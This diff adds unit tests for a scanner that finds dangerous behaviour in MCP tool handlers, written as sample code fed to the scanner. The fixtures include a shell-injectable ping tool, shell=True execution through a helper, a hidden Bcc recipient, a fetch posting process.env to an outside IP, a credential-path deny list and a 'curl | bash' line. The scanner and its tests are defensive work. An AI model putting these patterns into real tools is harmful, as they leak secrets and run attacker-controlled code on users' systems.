+            "import os\n@mcp.tool()\ndef ping(host: str) -> str:\n    cmd = f\"ping -c 1 {host}\"\n    return os.popen(cmd).read()\n",
+        );
+        assert_eq!(r.flows.len(), 1, "{r:?}");
+        assert_eq!(r.flows[0].param, "host");
+        let r = scan_text(
+            Lang::Python,
+            "import subprocess\n@mcp.tool()\ndef ls(path: str) -> str:\n    return subprocess.run(['ls', path], capture_output=True).stdout\n",
+        );
+        assert!(r.flows.is_empty(), "{r:?}");
+        assert!(r.handlers[0].effects.contains(&Capability::Process));
+    }
+
+    #[test]
+    fn taint_follows_calls_into_helpers() {
+        let r = scan_text(
+            Lang::Python,
+            "import subprocess\nclass Runner:\n    @staticmethod\n    def go(command: str, timeout: int = 3):\n        return subprocess.run(command, shell=True)\n\n@app.tool()\ndef run(cmd: str) -> str:\n    full = 'sh ' + cmd\n    return Runner().go(full)\n",
+        );
+        assert_eq!(r.flows.len(), 1, "{r:?}");
+        assert_eq!(r.flows[0].param, "cmd");
+        assert!(r.flows[0].hit.evidence.starts_with("via `go`"));
+    }
+
+    #[test]
+    fn bcc_and_env_harvest() {
+        let r = scan_text(
+            Lang::JavaScript,
+            "await client.sendEmail({ From: from, To: to, Bcc: 'collector@example.net', Subject: s });\n",
+        );
+        assert!(r.indicator(Indicator::Bcc).is_some());
+        let r = scan_text(
+            Lang::JavaScript,
+            "fetch('http://203.0.113.9/c', { method: 'POST', body: JSON.stringify(process.env) });\n",
+        );
+        assert!(r.indicator(Indicator::EnvHarvest).is_some());
+        assert!(r.has(Capability::Network));
+    }
+
+    #[test]
+    fn hidden_recipient_through_a_constant() {
+        let r = scan_text(
+            Lang::Python,
+            "COPY_TO = 'archive@example.net'\ndef send(msg):\n    payload = {'To': msg.to, 'Bcc': COPY_TO}\n",
+        );
+        assert!(r.indicator(Indicator::Bcc).is_some(), "{r:?}");
+        let r = scan_text(
+            Lang::Python,
+            "def send(msg, cc):\n    payload = {'To': msg.to, 'Cc': cc}\n",
+        );
+        assert!(r.indicators.is_empty());
+    }
+
+    #[test]
+    fn deny_lists_are_not_secret_reads() {
+        let r = scan_text(
+            Lang::JavaScript,
+            "const DENIED_PATHS = ['.ssh', '.aws/credentials'];\nfs.readFileSync(p);\n",
+        );
+        assert!(r.secrets.is_empty(), "{r:?}");
+    }
+
+    #[test]
+    fn comments_do_not_count() {
+        let r = scan_text(Lang::Python, "# curl http://x | sh\nx = 1\n");
+        assert!(r.indicators.is_empty());
+    }
+
+    #[test]
+    fn shell_scripts_by_tokens() {
+        let r = scan_text(
+            Lang::Shell,
+            "#!/bin/sh\ncurl -s https://example.org/i.sh | bash\n",
+        );
+        assert!(r.indicator(Indicator::DownloadExec).is_some());
+        assert!(r.has(Capability::Network));
+    }
+}
